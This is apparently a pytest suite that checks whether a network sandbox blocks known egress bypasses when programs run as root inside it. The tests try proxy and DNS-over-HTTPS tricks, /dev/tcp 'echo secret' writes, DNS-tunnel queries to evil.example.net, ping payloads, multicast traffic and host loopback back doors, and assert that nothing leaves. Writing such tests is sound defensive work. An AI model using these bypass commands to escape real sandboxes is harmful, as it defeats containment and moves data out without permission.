# SPDX-License-Identifier: Apache-2.0
"""Known bypasses, tried by ordinary programs as root inside; the judge is the capture."""

import json

import pytest

from internet.services import echo_tcp, echo_udp
from program import wait_until

# Every engine in a full run; in a usual one, what every engine is marked for on its own.
pytestmark = pytest.mark.engines(usual=["bwrap"])


@pytest.fixture
def targets(world):
    """A machine full of services that would answer, none of them listed."""
    address, six = world.address(), world.address6()
    for port in (22, 25, 53, 80, 443, 853, 1080, 3128, 5353, 8080, 9418):
        echo_tcp(world, address, port)
        echo_tcp(world, six, port)
    for port in (53, 123, 443, 500, 1900, 3478, 5353, 51820):
        echo_udp(world, address, port)
        echo_udp(world, six, port)
    world.own("8.8.8.8/32")
    world.own("1.1.1.1/32")
    return address, six


def silent(world):
    return world.left_the_host(dns=True) == []


def test_every_common_port_of_both_families(world, sandgate, targets):
    """github/gh-aw-firewall#207, #137: ports beyond 80 and 443, and TLS by bare address. 53 is
    answered by the gate itself."""
    world.site("api.example.com")
    box = sandgate.box("--only", "api.example.com", "--as-root")
    assert box.curl("https://api.example.com/").ok
    world.start_watching()
    got = box.python("""
open_ = []
for address in sys.argv[1:]:
    for port in list(range(1, 1025)) + [1080, 3128, 3306, 5353, 5432, 6379, 8000, 8080, 8443, 9418, 27017]:
        if port != 53 and try_dial(address, port, 2)[0] == "connected": open_.append([address, port])
report(open=open_)
""", *targets, timeout=120)
    assert got.json["open"] == [] and silent(world)


@pytest.mark.parametrize("command", [
    "curl -sk -m5 --noproxy '*' https://{4}/", "curl -sk -m5 -x http://{4}:3128 https://api.example.com/",
    "curl -sk -m5 --socks5-hostname {4}:1080 http://x.example.com/", "curl -sk -m5 --doh-url https://{4}/dns-query http://x.example.com/",
    "curl -sk -m5 --connect-to ::{4}:443 https://api.example.com/", "curl -sk -m5 https://[{6}]/",
    "curl -sk -m5 --resolve api.example.com:443:{4} https://api.example.com/",
    "curl -sk -m5 --interface 127.0.0.1 http://{4}/", "curl -sk -m5 --unix-socket /run/docker.sock http://x/",
    "dig +tries=1 +time=2 @{4} secret.example.net", "dig +tries=1 +time=2 +tcp @{4} secret.example.net",
    "dig +tries=1 +time=2 -p 5353 @{4} secret.example.net", "dig +tries=1 +time=2 @224.0.0.251 -p 5353 x.local",
    "ping -c1 -W1 {4}", "ping -c1 -W1 -p 736563726574 {6}", "ping -c1 -W1 -b 255.255.255.255",
    "git clone -q git://{4}/x.git", "ssh -o BatchMode=yes -o ConnectTimeout=3 {4}",
    "openssl s_client -connect {4}:443 -servername api.example.com </dev/null",
    "bash -c 'echo secret > /dev/tcp/{4}/80'", "bash -c 'echo secret > /dev/udp/{4}/123'",
    "wget -q -T3 -t1 -O- http://{4}/", "python3 -c \"import socket; socket.create_connection(('{4}', 22), 3)\"",
])
def test_clients_that_try_to_go_round(world, sandgate, targets, command):
    """nono#713, claude-code#40213, #36907, CubeSandbox#1695: no path depends on the client's goodwill."""
    box = sandgate.box("--only", "api.example.com", "--as-root")
    world.start_watching()
    got = box.run(command.replace("{4}", targets[0]).replace("{6}", targets[1]), timeout=30)
    assert "secret" not in got.out or "REFUSED" in got.out or "dig" in command, got
    assert got.seconds < 8
    assert silent(world), world.left_the_host(dns=True)


@pytest.mark.engines
def test_data_in_names_does_not_leave(world, sandgate):
    """CVE-2025-55284, httpjail#53: lookups as a channel, in every form of a question."""
    box = sandgate.box("--only", "api.example.com", "--as-root")
    world.name("api.example.com", "93.184.99.1")
    world.start_watching()
    box.python(r"""
for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 64, 65, 99, 250, 251, 252, 255, 256, 257, 32769, 65535):
    for name in ("c2VjcmV0.evil.example.net", "x.api.example.com", "api.example.com.evil.net"):
        ask_udp("192.0.0.1", 53, dns_question(name, kind), 0.5)
        ask_udp("8.8.8.8", 53, dns_question(name, kind), 0.5)
for klass in (1, 3, 4, 254, 255):
    ask_udp("192.0.0.1", 53, dns_question("secret.evil.net", klass=klass), 0.5)
for wire in (b"\x06secret\x04evil\x03net\0", b"\x3f" + b"s" * 63 + b"\x03net\0", b"\x03api\x07example\x03com\x04evil\0",
             b"\x0fapi.example.com\x04evil\x03net\0", b"\x0fapi.example.com\0", b"\x03a\0i\x07example\x03com\0"):
    ask_udp("192.0.0.1", 53, dns_question(wire), 0.5)
""", timeout=90)
    asked = {q.name for q in world.zone.queries}
    assert asked <= {"api.example.com"}, asked
    secret = [p for p in world.left_the_host(dns=True) if b"evil" in p.payload or b"secret" in p.payload]
    assert secret == []


def test_reverse_lookups_carry_nothing(world, sandgate):
    box = sandgate.box("--net", "deny", "--as-root")
    world.start_watching()
    for address in ("93.184.1.1", "10.1.2.3", "2a00:1::1", "fd00::5ec2:e7"):
        box.run(["dig", "+tries=1", "-x", address])
        box.run(["getent", "hosts", address])
    assert silent(world)


@pytest.mark.engines
def test_discovery_protocols_stay_inside(world, sandgate):
    """mDNS, LLMNR, SSDP, NetBIOS, DHCP: sent as a program would."""
    box = sandgate.box("--net", "any", "--as-root")
    world.start_watching()
    box.python("""
for address, port in (("224.0.0.251", 5353), ("239.255.255.250", 1900), ("224.0.0.252", 5355),
                      ("255.255.255.255", 67), ("192.168.77.255", 137), ("192.0.0.7", 137)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 32)
    try: s.sendto(b"M-SEARCH secret", (address, port))
    except OSError: pass
for address in "ff02::fb%1", "ff02::1:3", "ff05::c":
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    for _, name in socket.if_nameindex():
        try: s.sendto(b"secret", (address.split("%")[0], 5353, 0, socket.if_nametoindex(name)))
        except OSError: pass
""")
    multicast = [p for p in world.left_the_host(dns=True)
                 if p.destination is None or p.destination.startswith(("224.", "239.", "255.", "ff"))
                 or p.destination.endswith(".255")]
    assert multicast == []


def test_listeners_of_the_gate_are_not_reachable_from_the_world(world, sandgate):
    """httpjail#31: nothing of a sandbox listens on the host, on any address."""
    before = world.machine.run("ss -Hltnu").stdout
    box = sandgate.box("--only", "api.example.com")
    after = world.machine.run("ss -Hltnu").stdout
    assert sorted(after.splitlines()) == sorted(before.splitlines())
    assert box.run("true").ok


@pytest.mark.engines
def test_the_hosts_loopback_by_every_known_back_door(world, sandgate):
    """slirp4netns#93 (10.0.2.2 is the host's loopback), Docker's and others' gateways."""
    machine = world.machine
    listeners = [machine.listen("0.0.0.0", 4999), machine.listen("::", 4998)]
    try:
        box = sandgate.box("--net", "any", "--as-root")
        own = json.loads(machine.place.run(["ip", "-j", "addr", "show", "scope", "global"]).stdout)
        got = box.python("""
names = ["10.0.2.2", "10.0.2.3", "172.17.0.1", "192.0.0.1", "192.0.0.3", "127.0.0.1", "127.1.2.3", "0.0.0.0",
         "169.254.1.2", "100.115.92.2", "::1", "::", "fd73:616e:6467:1::1", "::ffff:127.0.0.1", "fe80::1",
         "host.docker.internal", "host.containers.internal", "gateway.docker.internal", "localhost",
         "host.sandgate.internal"]
hit = []
for name in names:
    for port in 4999, 4998:
        try:
            for info in socket.getaddrinfo(name, port, 0, socket.SOCK_STREAM):
                address = info[4][0]
                # The host's own places in its networks (podman writes one into /etc/hosts, a bridge has one): `any`
                # admits them.
                if address not in sys.argv and try_dial(address, port, 1.5)[0] == "connected":
                    hit.append([name, port])
        except OSError: pass
report(hit=hit)
""", *[a["local"] for link in own for a in link["addr_info"]], timeout=90)
        assert got.json["hit"] == []
    finally:
        for listener in listeners:
            listener.close()


def test_limits_do_not_open_anything(world, sandgate):
    """A flood of everything at once; what is refused stays refused, and the gate stays."""
    address = world.address()
    echo_tcp(world, address, 7000)
    box = sandgate.box("--only", f"{address}:7000", "--as-root")
    gate = box.gate_pid
    world.start_watching()
    floods = [box.start_python("""
stop = time.monotonic() + 3
n = 0
sockets = []
while time.monotonic() < stop:
    n += 1
    try:
        s = socket.socket(); s.setblocking(False)
        try: s.connect(("93.184.%d.%d" % (n >> 8 & 255, n & 255), 80 + n % 7))
        except BlockingIOError: pass
        sockets.append(s)
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.setblocking(False)
        u.sendto(dns_question(f"q{n}.evil.net"), ("192.0.0.1", 53))
        u.sendto(os.urandom(1200), ("93.184.9.9", 443))
        sockets.append(u)
    except OSError:
        pass
    if len(sockets) > 400:
        [s.close() for s in sockets]; sockets.clear()
report(n=n)
""") for _ in range(3)]
    for flood in floods:
        flood.wait(60)
    assert silent(world)
    assert box.gate_pid == gate
    wait_until(lambda: box.python("report(r=try_dial(sys.argv[1], 7000)[0])", address).json["r"]
               == "connected", 10, "an ordinary connection")
